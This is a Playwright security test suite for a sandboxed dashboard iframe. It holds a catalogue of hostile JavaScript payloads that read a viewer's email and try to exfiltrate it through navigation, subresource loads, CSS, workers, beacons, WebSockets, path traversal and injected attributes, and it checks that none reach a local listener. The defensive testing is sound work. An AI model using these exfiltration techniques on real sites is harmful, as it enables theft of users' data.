import http from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { expect, test } from "@playwright/test";
import { DraftAuthor, WatchPage } from "./support/watch-page";

// Hostile dashboards try every way we know to carry a secret out of the sandboxed frame. Each
// first reads the viewer's email through the broker, then aims it at a listener on 127.0.0.1;
// the listener must receive no request, and the host page must be left as it was.
//
// Two residual channels stay outside what CSP can stop, and are documented rather than hidden:
// WebRTC (not exercised here), and the browser's speculative connection to the target of a
// navigation the parent's frame-src then blocks: the listener sees a bare TCP connection, never
// a request, but a hostile host name could still carry bits out through DNS.

let server: http.Server;
let origin = "";
let wsOrigin = "";
const seen: string[] = [];
const sockets = new Set<Socket>();

test.beforeAll(async () => {
  server = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" });
    res.end("ok");
  });
  server.on("connection", (socket: Socket) => {
    seen.push("connection");
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  server.on("upgrade", (req, socket) => {
    seen.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  origin = `http://127.0.0.1:${port}`;
  wsOrigin = `ws://127.0.0.1:${port}`;
});

test.afterAll(async () => {
  for (const s of sockets) s.destroy();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

test.beforeEach(() => {
  seen.length = 0;
});

/** A dashboard that reads the secret through the broker, shows it, then runs `attack`. */
function hostile(attack: string): string {
  return `<!doctype html>
<title>hostile</title>
<p id="status">starting</p>
<p id="out"></p>
<script>
(async () => {
  const API = window.DASHBOARD_API_BASE;
  const me = await (await fetch(API + "/me")).json();
  const secret = me.email;
  const LEAK = "${origin}/leak?s=" + encodeURIComponent(secret);
  const WS = "${wsOrigin}/leak?s=" + encodeURIComponent(secret);
  const out = (s) => { document.getElementById("out").textContent += s + ";"; };
  const el = (tag, attrs) => { const e = document.createElement(tag); for (const k in attrs) e.setAttribute(k, attrs[k]); (document.body || document.documentElement).appendChild(e); return e; };
  document.getElementById("status").textContent = "armed";
  try {
    ${attack}
  } catch (e) { out("threw " + (e && e.name)); }
})();
</script>`;
}

const attacks: Record<string, string> = {
  // Navigation of the frame itself, the top window and popups
  "location.href": `location.href = LEAK;`,
  "location.replace": `location.replace(LEAK);`,
  "location.assign in a timer": `setTimeout(() => location.assign(LEAK), 50);`,
  "top.location": `top.location.href = LEAK;`,
  "parent.location": `parent.location = LEAK;`,
  "window.open": `const w = window.open(LEAK); out("open " + w);`,
  "window.open to _top": `window.open(LEAK, "_top");`,
  "a.click, no target": `el("a", { href: LEAK }).click();`,
  "a.click target _blank": `el("a", { href: LEAK, target: "_blank" }).click();`,
  "a.click target _top": `el("a", { href: LEAK, target: "_top" }).click();`,
  "a download": `el("a", { href: LEAK, download: "x" }).click();`,
  "a ping on a same-site link": `el("a", { href: "/dashboards/frame", ping: LEAK + "&ping=1" }).click();`,
  "a ping on a leaking link": `el("a", { href: LEAK + "&nav=1", ping: LEAK + "&ping=1" }).click();`,
  "meta refresh": `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=' + LEAK + '">');`,
  "form GET submit": `const f = el("form", { action: LEAK, method: "get" }); f.submit();`,
  "form POST requestSubmit": `const f = el("form", { action: LEAK, method: "post" }); f.appendChild(document.createElement("button")); f.requestSubmit();`,
  "form target _blank": `const f = el("form", { action: LEAK, target: "_blank" }); f.submit();`,
  // Subresources
  img: `new Image().src = LEAK;`,
  "img element and srcset": `el("img", { src: LEAK + "&a=1", srcset: LEAK + "&b=1 2x" });`,
  "input type=image": `el("input", { type: "image", src: LEAK });`,
  script: `el("script", { src: LEAK });`,
  "module script": `el("script", { type: "module", src: LEAK });`,
  "link stylesheet": `el("link", { rel: "stylesheet", href: LEAK });`,
  "link prefetch": `el("link", { rel: "prefetch", href: LEAK });`,
  "link preload": `el("link", { rel: "preload", as: "fetch", href: LEAK, crossorigin: "anonymous" });`,
  "link modulepreload": `el("link", { rel: "modulepreload", href: LEAK });`,
  "link preconnect": `el("link", { rel: "preconnect", href: "${origin}" });`,
  "link icon": `el("link", { rel: "icon", href: LEAK });`,
  "link manifest": `el("link", { rel: "manifest", href: LEAK });`,
  "css @import": `el("style", {}).textContent = '@import url("' + LEAK + '");';`,
  "css background": `el("div", { style: "width:10px;height:10px;background:url(" + LEAK + ")" });`,
  "css @font-face": `el("style", {}).textContent = '@font-face{font-family:x;src:url("' + LEAK + '")} body{font-family:x}';`,
  "svg image": `document.body.insertAdjacentHTML("beforeend", '<svg><image href="' + LEAK + '" width="5" height="5"/></svg>');`,
  "svg use": `document.body.insertAdjacentHTML("beforeend", '<svg><use href="' + LEAK + '#x"/></svg>');`,
  object: `el("object", { data: LEAK });`,
  embed: `el("embed", { src: LEAK });`,
  audio: `const a = new Audio(LEAK); a.play().catch(() => {});`,
  video: `el("video", { src: LEAK, poster: LEAK + "&poster=1", autoplay: "" });`,
  "video track": `const v = el("video", {}); const t = document.createElement("track"); t.src = LEAK; t.default = true; v.appendChild(t);`,
  "nested iframe": `el("iframe", { src: LEAK });`,
  "nested srcdoc iframe": `el("iframe", { srcdoc: '<img src="' + LEAK + '">' });`,
  "base href": `el("base", { href: "${origin}/" }); el("img", { src: "leak-relative?s=" + encodeURIComponent(secret) });`,
  // Connections
  "fetch through the shim": `await fetch(LEAK).catch(() => {});`,
  "fetch no-cors": `await fetch(LEAK, { mode: "no-cors" }).catch(() => {});`,
  "native fetch from an about:blank child": `const f = el("iframe", {}); await f.contentWindow.fetch(LEAK, { mode: "no-cors" }).catch(() => {});`,
  "Request object to the listener": `await fetch(new Request(LEAK)).catch(() => {});`,
  sendBeacon: `out("beacon " + navigator.sendBeacon(LEAK, secret));`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", LEAK); x.send();`,
  WebSocket: `new WebSocket(WS);`,
  Worker: `new Worker(LEAK);`,
  "Worker from a blob": `new Worker(URL.createObjectURL(new Blob(['fetch("' + LEAK + '")'], { type: "text/javascript" })));`,
  SharedWorker: `new SharedWorker(LEAK);`,
  "service worker": `await navigator.serviceWorker.register(LEAK);`,
  "dynamic import": `await import(LEAK).catch(() => {});`,
  EventSource: `new EventSource(LEAK);`,
  "eval'd fetch": `eval("new Image().src = LEAK");`,
  "document.write after load": `document.open(); document.write('<img src="' + LEAK + '">'); document.close();`,
  // Broker abuse
  "POST through the broker": `await fetch(API + "/me", { method: "POST", body: secret }).catch(() => out("post refused"));`,
  "DELETE through the broker": `await fetch(API + "/me", { method: "DELETE" }).catch(() => out("delete refused"));`,
  "traversal ../": `const r = await fetch(API + "/../draft"); out("traversal " + r.status);`,
  "traversal %2e%2e": `const r = await fetch(API + "/%2e%2e/%2e%2e/draft"); out("encoded " + r.status);`,
  "absolute URL through the broker": `const r = await fetch(LEAK); out("absolute " + r.status);`,
  "protocol-relative URL through the broker": `const r = await fetch(LEAK.replace("http:", "")); out("protocol-relative " + r.status);`,
  "playground write URL": `await fetch("/dashboards/playground/draft", { method: "POST", body: JSON.stringify({ html: secret }) }).catch(() => {}); const r = await fetch("/dashboards/playground/draft"); out("write " + r.status);`,
  "a flood of reads": `const rs = await Promise.all(Array.from({ length: 60 }, () => fetch(API + "/me").then((r) => r.status))); out("flood " + rs.filter((s) => s === 429).length);`,
  "snapshot notice with a hostile time": `const s = el("script", { type: "application/json", id: "dashboard-snapshot", "data-taken-at": '"><img src="' + LEAK + '">' }); s.textContent = JSON.stringify({ secret }); out("snapshot " + JSON.stringify(window.dashboardSnapshot()));`,
  "postMessage to the host": `parent.postMessage({ type: "fetch", id: 1, method: "GET", path: LEAK }, "*"); parent.postMessage({ type: "init", html: secret, apiBase: "${origin}" }, "*");`,
  // Reading the host's secrets
  "document.cookie, parent.document, referrer, baseURI": `
    try { out("cookie=" + document.cookie); } catch (e) { out("cookie threw"); }
    try { out("parent=" + parent.document.title); } catch (e) { out("parent threw"); }
    try { out("parentUrl=" + parent.location.href); } catch (e) { out("parentUrl threw"); }
    out("referrer=" + document.referrer);
    out("base=" + document.baseURI);
    out("location=" + location.href);
    out("name=" + window.name);
    new Image().src = LEAK + "&c=" + encodeURIComponent(document.referrer + document.baseURI);`,
};

for (const [name, attack] of Object.entries(attacks)) {
  test(`a dashboard cannot leak: ${name}`, async ({ page, request, context }) => {
    const author = new DraftAuthor(request);
    const draft = await author.create(hostile(attack));
    const watch = new WatchPage(page);
    await watch.open(draft.watchUrl);
    const hostUrl = page.url();

    // The secret was read through the broker before the attack ran.
    await watch.openRequestLog();
    await expect(watch.requestLogEntries().filter({ hasText: "/me" }).filter({ hasText: "200" }).first()).toBeVisible();
    await page.waitForTimeout(1_500);

    const connections = seen.filter((s) => s === "connection").length;
    if (connections > 0) test.info().annotations.push({ type: "speculative-connection", description: `${connections} bare TCP connection(s), no request` });
    expect(seen.filter((s) => s !== "connection"), `the listener was reached by "${name}"`).toEqual([]);
    expect(page.url()).toBe(hostUrl);
    expect(context.pages()).toHaveLength(1);
    await expect(watch.heading()).toHaveText("Watching untitled draft");
    await expect(watch.connectionState()).toHaveText("live");
    await expect(watch.revision()).toHaveText("1");
    expect((await author.current(draft)).revision).toBe(1);
  });
}

test("what a hostile dashboard reads of its host is nothing", async ({ page, request }) => {
  const draft = await new DraftAuthor(request).create(hostile(attacks["document.cookie, parent.document, referrer, baseURI"] ?? ""));
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  const out = watch.dashboard().locator("#out");
  await expect(out).toContainText("base=");
  const text = (await out.textContent()) ?? "";
  expect(text).toContain("cookie threw");
  expect(text).toContain("parent threw");
  expect(text).toContain("parentUrl threw");
  expect(text).toContain("referrer=;");
  expect(text).not.toContain(draft.id);
  expect(text).not.toContain(new URL(draft.postUrl).pathname.split("/").pop() ?? "");
});

test("the broker refuses writes, traversal and foreign URLs, and throttles floods", async ({ page, request }) => {
  const draft = await new DraftAuthor(request).create(
    hostile(
      [
        attacks["POST through the broker"],
        attacks["DELETE through the broker"],
        attacks["traversal ../"],
        attacks["traversal %2e%2e"],
        attacks["absolute URL through the broker"],
        attacks["playground write URL"],
        attacks["a flood of reads"],
        `out("done");`,
      ]
        .map((a) => `{ ${a} }`)
        .join("\n"),
    ),
  );
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  const out = watch.dashboard().locator("#out");
  await expect(out).toContainText("done");
  const text = (await out.textContent()) ?? "";
  expect(text).toContain("post refused");
  expect(text).toContain("delete refused");
  expect(text).toContain("traversal 400");
  expect(text).toContain("encoded 400");
  expect(text).toContain("absolute 400");
  expect(text).toContain("write 400");
  expect(Number(/flood (\d+)/.exec(text)?.[1] ?? 0)).toBeGreaterThan(0);
  expect(seen.filter((s) => s !== "connection")).toEqual([]);
});

test("a dashboard that reloads itself forever is stopped", async ({ page, request }) => {
  const draft = await new DraftAuthor(request).create(`<!doctype html><p>loop</p><script>setTimeout(() => location.reload(), 20)</script>`);
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  await expect(page.getByText("The dashboard kept reloading itself")).toBeVisible();
});
